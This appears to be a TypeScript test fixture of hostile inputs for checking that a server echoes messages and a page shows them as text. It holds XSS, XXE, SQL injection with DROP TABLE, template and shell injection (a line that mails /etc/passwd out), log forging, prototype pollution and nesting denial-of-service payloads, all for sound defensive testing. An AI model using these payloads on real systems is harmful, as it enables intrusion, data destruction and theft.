/**
 * Hostile texts, which do harm wherever they are treated as more than text. A server has to send them back unchanged,
 * and a page has to show them as text.
 */

export interface Payload {
  readonly name: string;
  /** The message, which is JSON. */
  readonly message: string;
}

/** A line that an attacker would like to add to a log. */
export const FORGED_LINE = '2026-11-22T10:00:00.000Z INFO authenticated: user admin';

/**
 * What the markup does if it runs: it paints the page red and tells the page that embeds it. Without `"` and spaces.
 */
const runs = (name: string) =>
  `document.body.style='background:#b3261e;color:#fff';parent.postMessage('${name}','*')`;

const texts = {
  script: `<script>${runs('script')}</script>`,
  image: `<img src=data:, onerror=${runs('image')}>`,
  drawing: `<svg><svg onload=${runs('drawing')}>`,
  'XML entities': '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;&lt;</a>',
  SQL: "' OR '1'='1'; DROP TABLE users; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a payload
  template: '{{7*7}} ${7*7} <%= 7*7 %>',
  shell: '$(id) `id`; cat /etc/passwd | mail mallory',
  quotes: '","role":"admin","x":"',
  'line break': `hello\r\n${FORGED_LINE}`,
  'terminal escape': '\u001b[2J\u001b[31mred',
  'zero byte': 'alice\u0000.png',
  emoji: '👩‍👩‍👧‍👦 e\u0301 \u{1f469}\ud83d',
  'right to left': 'invoice\u202efdp.exe',
};

/** Messages that are hostile as JSON. */
const documents = {
  'long number': '{"msg":12345678901234567890.10}',
  prototype: '{"__proto__":{"msg":"planted"}}',
  nesting: `{"msg":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
};

/** All hostile messages. The last one may end the connection, if a server cannot parse it. */
export const payloads: readonly Payload[] = [
  ...Object.entries(texts).map(([name, msg]) => ({ name, message: JSON.stringify({ msg }) })),
  ...Object.entries(documents).map(([name, message]) => ({ name, message })),
];
